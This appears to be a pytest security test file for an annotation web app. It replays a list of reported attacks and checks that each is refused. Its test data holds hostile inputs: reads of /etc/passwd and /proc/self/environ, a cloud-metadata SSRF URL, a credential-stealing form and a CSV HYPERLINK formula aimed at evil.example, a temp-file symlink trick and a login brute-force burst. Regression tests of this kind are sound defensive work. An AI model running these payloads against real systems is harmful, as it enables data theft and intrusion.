"""Issue 15's attacks, each reproduced and refused: against a real ``judgelab serve`` where the attack
is on the server (uploads, body size, closed routes, the login burst, session ends, headers), and
in-process where it is on a function the page calls (judge configs, templates, exports, renderers,
forged item ids, field sizes); finding 8 (concurrent forged submits) on SQLite and PostgreSQL."""

from __future__ import annotations

import json
import statistics
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select

from annotation.accounts import add_user
from annotation.catalog import ensure_annotator, get_task
from annotation.errors import ConfigError, JudgelabError, LabelError
from annotation.export import export
from annotation.ingest import import_file
from annotation.judges.config import parse_config
from annotation.judges.web_config import check_template_path, operator_config, protected_files
from annotation.models import Item, JudgeRun, Label
from annotation.services import Services
from app import annotate, dashboard
from app.page_client import PageClient
from app.render import safe_markdown
from tests.app.conftest import PASSWORD, _cli, start_server
from tests.conftest import PROJECT_ROOT

SAMPLE = PROJECT_ROOT / "data" / "sample_pairwise.jsonl"
LOG = PROJECT_ROOT / "test-output"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    tmp = tmp_path_factory.mktemp("sec")
    db = tmp / "sec.db"
    _cli(db, "import", str(SAMPLE), "--task", "t")
    for name, role in (("ann", "annotator"), ("ann2", "annotator"), ("adam", "admin"), ("gone", "annotator")):
        _cli(db, "users", "add", name, "--role", role, "--password-stdin", stdin=PASSWORD + "\n")
    url, proc = start_server(str(db), LOG / "serve-security.log")
    yield url, db
    proc.terminate()
    proc.wait(timeout=20)


def _admin(services: Services) -> None:
    with services.session() as s:
        import_file(s, SAMPLE, task="t")
        add_user(s, "root", role="admin", password=PASSWORD)
        add_user(s, "ann", role="annotator", password=PASSWORD)


# ------------------------------------------------------------------ 1, 2, 9, 10, 15: judges from the web


def test_a_web_admin_cannot_run_code_read_files_or_reach_hosts(sqlite_services: Services, tmp_path: Path) -> None:
    _admin(sqlite_services)
    attacks = {
        # 1. vllm with trust_remote_code on an uploaded folder: runs Python as the server
        "backend: vllm\nmodel: /tmp/gradio/x\nvllm_args: {trust_remote_code: true}\n": "cannot be started from the web",
        # 2. a file as the template, any environment variable as the key, any URL
        "model: m\ntemplate: /etc/passwd\n": "never a file",
        "model: m\ntemplate: /proc/self/environ\n": "never a file",
        "model: m\napi_key_env: HOME\nbase_url: http://127.0.0.1:8000/v1\n": "not allowed this variable",
        "model: m\nbase_url: http://169.254.169.254/latest\n": "not allowed this host",
    }
    for config, refusal in attacks.items():
        with pytest.raises(ConfigError, match=refusal):
            dashboard.start_judge(sqlite_services, "root", "t", config)
    with sqlite_services.session() as s:
        assert s.scalar(select(func.count()).select_from(JudgeRun)) == 0  # nothing started, nothing stored
    # the operator allows a host and a variable; an unset variable fails the start, recorded (10)
    sqlite_services.settings.web_judge_hosts = "127.0.0.1:9"
    sqlite_services.settings.web_api_key_envs = "JUDGELAB_TEST_UNSET_KEY"
    config = "model: m\nbase_url: http://127.0.0.1:9/v1\napi_key_env: JUDGELAB_TEST_UNSET_KEY\n"
    with pytest.raises(ConfigError, match="is not set"):
        dashboard.start_judge(sqlite_services, "root", "t", config)
    runs = dashboard.judge_runs(sqlite_services, "root", "t")
    assert runs[0][3] == "failed" and "not set" in runs[0][9]


def test_operator_configs_and_template_paths(sqlite_services: Services, tmp_path: Path) -> None:
    _admin(sqlite_services)
    folder = tmp_path / "judges"
    folder.mkdir()
    (folder / "fake.yaml").write_text("backend: fake\nmodel: fake\ntemplate: mine.j2\nanswers: [A]\n")
    (folder / "mine.j2").write_text("Which is better? {{ first }} or {{ second }}")
    (folder / "escape.yaml").write_text("backend: fake\nmodel: fake\ntemplate: ../secret.j2\n")
    (tmp_path / "secret.j2").write_text("{{ x }} secret")
    (folder / "engine.yaml").write_text("backend: vllm\nmodel: m\n")
    sqlite_services.settings.judge_config_dir = folder
    assert dashboard.operator_judge_configs(sqlite_services, "root") == ["engine.yaml", "escape.yaml", "fake.yaml"]
    protected = protected_files(sqlite_services.settings.resolved_database_url())
    assert "Which is better" in operator_config(folder, "fake.yaml", protected=protected).template_text()
    with pytest.raises(ConfigError, match="leaves the judge config folder"):
        operator_config(folder, "escape.yaml", protected=protected)
    with pytest.raises(ConfigError, match="cannot be started from the web"):
        operator_config(folder, "engine.yaml", protected=protected)
    with pytest.raises(ConfigError, match="no such judge config"):
        operator_config(folder, "../etc/passwd", protected=protected)
    # the database, its WAL and its shared memory are never a template (opening them drops its locks)
    db = Path(sqlite_services.settings.resolved_database_url().removeprefix("sqlite:///"))
    for name in (db, db.with_name(db.name + "-wal")):
        with pytest.raises(ConfigError, match="names the database"):
            check_template_path(str(name), base_dir=None, protected=protected)
    message = dashboard.start_judge(sqlite_services, "root", "t", "", "fake.yaml")
    assert "started judge" in message


def test_a_judge_name_is_one_identity_and_planning_is_bounded(sqlite_services: Services) -> None:
    from annotation.judges.runner import plan

    _admin(sqlite_services)
    first = parse_config({"backend": "fake", "model": "a", "name": "judge-x"})
    plan(sqlite_services, "t", first, limit=2, retry_failed=False)
    other = parse_config({"backend": "fake", "model": "b", "name": "judge-x"})  # 15: another model, same name
    with pytest.raises(JudgelabError, match="exists with another configuration"):
        plan(sqlite_services, "t", other, limit=2, retry_failed=False)
    # 9: a template that renders a huge prompt fails the run row it created first, with the reason
    huge = parse_config(
        {"backend": "fake", "model": "c", "template": "{% for i in range(5000) %}{{ prompt }} {{ first }}{% endfor %}"}
    )
    with pytest.raises(JudgelabError, match="over 400,000"):
        plan(sqlite_services, "t", huge, limit=2, retry_failed=False)
    with sqlite_services.session() as s:
        statuses = [r.status for r in s.scalars(select(JudgeRun).order_by(JudgeRun.id))]
    assert statuses[-1] == "failed"


# ------------------------------------------------------------------ 3, 4, 7, 11, 18: the server


def test_uploads_routes_and_body_size_are_closed(server: tuple[str, Path]) -> None:
    url, _ = server
    with httpx.Client(base_url=url, timeout=30) as http:
        http.post("/login", data={"username": "ann", "password": PASSWORD})
        assert http.post("/gradio_api/upload", files={"files": ("x.py", b"import os")}).status_code == 404
        assert http.get("/gradio_api/deep_link").status_code == 404
        assert http.get("/gradio_api/proxy=http://169.254.169.254/").status_code == 404
        page = http.get("/")
        assert "img-src 'self'" in page.headers["content-security-policy"]
        assert "form-action 'self'" in page.headers["content-security-policy"]
    with httpx.Client(base_url=url, timeout=30) as anonymous:
        assert anonymous.get("/gradio_api/heartbeat/abc").status_code == 401
        big = anonymous.post("/login", content=b"x" * 3_000_000)  # over the 2 MB default, before routing
        assert big.status_code == 413
        login = anonymous.post("/login", data={"username": "ann", "password": PASSWORD})
        cookies = login.headers.get_list("set-cookie")
        assert cookies and all("samesite=none" not in c.lower() for c in cookies)


def test_disable_remove_and_passwd_end_sessions(server: tuple[str, Path]) -> None:
    url, db = server
    with httpx.Client(base_url=url, timeout=30) as http:
        assert http.post("/login", data={"username": "gone", "password": PASSWORD}).status_code == 200
        assert http.get("/config").status_code == 200
        _cli(db, "users", "disable", "gone")
        time.sleep(6)  # the server re-reads an account at most every 5 s
        assert http.get("/config").status_code == 401
        assert http.post("/login", data={"username": "gone", "password": PASSWORD}).status_code == 400


def test_password_policy() -> None:
    from annotation.password_policy import check_password

    for weak, role in (("12345678", "annotator"), ("password", "annotator"), ("        ", "annotator")):
        with pytest.raises(JudgelabError):
            check_password("u", weak, role=role)
    with pytest.raises(JudgelabError, match="admins need 12"):
        check_password("u", "Tulip-orb1t", role="admin")
    with pytest.raises(JudgelabError, match="contains the user name"):
        check_password("margaret", "margaret-2026-x", role="annotator")
    check_password("u", PASSWORD, role="admin")


# ------------------------------------------------------------------ 5, 6, 13, 16, 17: content and files


def test_html_in_items_never_renders() -> None:
    attack = (
        '\\```\n<form action="https://evil.example/steal"><input name="password"></form>\n```\n'
        '<div style="position:fixed;inset:0">overlay</div> ![x](https://evil.example/track.png?who=1)'
    )
    html = safe_markdown(attack)
    assert "<form" not in html and "<div" not in html and "<img" not in html and "<input" not in html
    assert "&lt;form" in html  # shown as text


def test_csv_exports_cannot_run_formulas_and_ignore_planted_links(sqlite_services: Services, tmp_path: Path) -> None:
    _admin(sqlite_services)
    with sqlite_services.session() as s:
        item = s.scalars(select(Item.id).order_by(Item.id)).first()
        judge = ensure_annotator(s, "j", kind="llm_judge").id
        from annotation.store import LabelIn, submit_labels

        submit_labels(
            s, [LabelIn(item, judge, "A", rationale='=HYPERLINK("https://evil.example/?"&A1,"x")')], changed_by="t"
        )
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "labels.csv"
    (tmp_path / ".labels.csv.partial").symlink_to(victim)  # the old predictable temporary name
    with sqlite_services.session() as s:
        export(s, "t", "long", out)
        export(s, "t", "long", tmp_path / "labels.jsonl")
    assert victim.read_text() == "keep me"
    text = out.read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    exact = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text().splitlines()]
    assert any(r["rationale"].startswith("=HYPERLINK") for r in exact)  # JSONL stays exact


def test_toasts_escape_names() -> None:
    import gradio as gr

    from app.ui_events import guarded

    @guarded
    def fail() -> None:
        raise JudgelabError('no task named "<a href=https://evil.example>t</a>"')

    with pytest.raises(gr.Error) as caught:
        fail()
    assert "<a" not in str(caught.value.message) and "&lt;a" in str(caught.value.message)


# ------------------------------------------------------------------ 8, 12, 14: the annotator's own items


def test_forged_items_are_refused_and_overlap_holds(services: Services) -> None:
    """On SQLite and on PostgreSQL (the ``services`` fixture runs both)."""
    with services.session() as s:
        import_file(s, SAMPLE, task="t")
        for k in range(6):
            add_user(s, f"a{k}", role="annotator", password=PASSWORD)
        task = get_task(s, "t")
        task.overlap = 3
        free = s.scalars(select(Item.id).where(Item.task_id == task.id).order_by(Item.id.desc())).first()
    # 12: back with an id when nothing is labeled shows the annotator's own next item, not that id
    view = annotate.back(services, "a0", "t", free)
    assert view.item_id != free or view.message
    choice = view.choices[0]  # the first answer button's text
    # 8/12: six annotators submit the same item, never served to them, at once: none is stored
    errors: list[BaseException] = []

    def forged(k: int) -> None:
        try:
            annotate.submit(services, f"a{k}", "t", free, choice)
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=forged, args=(k,)) for k in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    with services.session() as s:
        assert s.scalar(select(func.count()).select_from(Label).where(Label.item_id == free)) == 0
    # served items: each annotator submits what they were served; no item passes its overlap
    for k in range(6):
        view = annotate.open_task(services, f"a{k}", "t")
        annotate.submit(services, f"a{k}", "t", view.item_id, choice)
    with services.session() as s:
        counts = s.execute(select(Label.item_id, func.count()).group_by(Label.item_id)).all()
    assert counts and max(n for _, n in counts) <= 3
    # 14: a rationale over the limit is refused with the count
    with pytest.raises(LabelError, match="over the limit of 5,000"):
        annotate.text_from_page("rationale", "x" * 50_000, limit=services.settings.max_rationale_chars)


def test_deeply_nested_json_names_its_line(tmp_path: Path, sqlite_services: Services) -> None:
    from annotation.errors import InputError

    deep = tmp_path / "deep.jsonl"
    deep.write_text(
        '{"id": "ok", "prompt": "p", "response_a": "a", "response_b": "b"}\n'
        + '{"id": "x", "prompt": '
        + "[" * 50_000
        + "]" * 50_000
        + "}\n"
    )
    with sqlite_services.session() as s, pytest.raises(InputError, match=r"deep.jsonl:2: nests JSON too deeply"):
        import_file(s, deep, task="d")


# ------------------------------------------------------------------ 3: last, its attacker is backed off for minutes


def test_a_login_burst_does_not_stall_logged_in_users(server: tuple[str, Path]) -> None:
    """200 wrong passwords from 4 connections while an annotator clicks: their no-op event's p95 stays
    within 3x its quiet value or 250 ms (it was 8 ms -> 1.4 s median); the attacker is backed off and logged."""
    url, _ = server
    client = PageClient(url, "ann2", PASSWORD)
    client.call("ping")

    def timings(n: int) -> list[float]:
        out = []
        for _ in range(n):
            start = time.perf_counter()
            client.call("ping")
            out.append(time.perf_counter() - start)
        return out

    quiet = timings(30)
    stop = threading.Event()
    refused: list[int] = []

    def attack(k: int) -> None:
        with httpx.Client(base_url=url, timeout=60) as http:
            for i in range(50):
                if stop.is_set():
                    return
                r = http.post("/login", data={"username": f"victim{k}", "password": f"guess-{i}"})
                refused.append(r.status_code)

    threads = [threading.Thread(target=attack, args=(k,)) for k in range(4)]
    for t in threads:
        t.start()
    busy = timings(30)
    for t in threads:  # every attacker makes its 50 attempts (the first ones hash, the rest back off)
        t.join(timeout=120)
    p95 = lambda xs: statistics.quantiles(xs, n=20)[18]  # noqa: E731
    # the floor: a stalled loop took 1.4 s (median); on two cores shared with four attackers' hashing,
    # a loop that is not stalled still answered at p95 53 ms once (over a 50 ms floor, in make test)
    assert p95(busy) <= max(3 * p95(quiet), 0.25), (p95(quiet), p95(busy))
    assert refused and set(refused) <= {400}
    log = (LOG / "serve-security.log").read_text()
    assert "failed login for 'victim0'" in log and "too many failures" in log


# ------------------------------------------------------------------ 2 and 17: the database file, large files


def test_serve_notices_its_wal_disappearing(tmp_path: Path) -> None:
    import sqlite3

    from annotation.health import WalWatch

    db = tmp_path / "w.db"
    conn = sqlite3.connect(db)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("CREATE TABLE t (x)")
    conn.execute("INSERT INTO t VALUES (1)")
    conn.commit()
    said: list[str] = []
    watch = WalWatch(str(db), said.append)
    assert watch.check() and said == []
    Path(str(db) + "-wal").unlink()  # what another process's open-and-close can do
    assert not watch.check() and not watch.check()
    assert len(said) == 1 and "write-ahead log" in said[0] and "db check" in said[0]
    conn.close()


def test_jsonl_imports_stream_in_batches_and_roll_back_whole(sqlite_services: Services, tmp_path: Path) -> None:
    from annotation.errors import InputError

    rows = [{"id": f"i{n}", "prompt": "p", "response_a": "a", "response_b": "b"} for n in range(35)]
    good = tmp_path / "good.jsonl"
    good.write_text("".join(json.dumps(r) + "\n" for r in rows))
    with sqlite_services.session() as s:
        summary = import_file(s, good, task="big", batch_size=10)
    assert (summary.rows, summary.items_added) == (35, 35)
    # a duplicate id in the fourth batch names both lines; nothing of this file stays
    bad = tmp_path / "bad.jsonl"
    bad.write_text(
        "".join(json.dumps({**r, "id": f"n{n}"}) + "\n" for n, r in enumerate(rows))
        + json.dumps({**rows[0], "id": "n3"})
        + "\n"
    )
    refused = pytest.raises(InputError, match=r"bad.jsonl:36.*duplicate item id 'n3' \(first at .*bad.jsonl:4\)")
    with refused, sqlite_services.session() as s:
        import_file(s, bad, task="big", batch_size=10)
    with sqlite_services.session() as s:
        n = s.scalar(select(func.count()).select_from(Item).where(Item.task_id == get_task(s, "big").id))
    assert n == 35
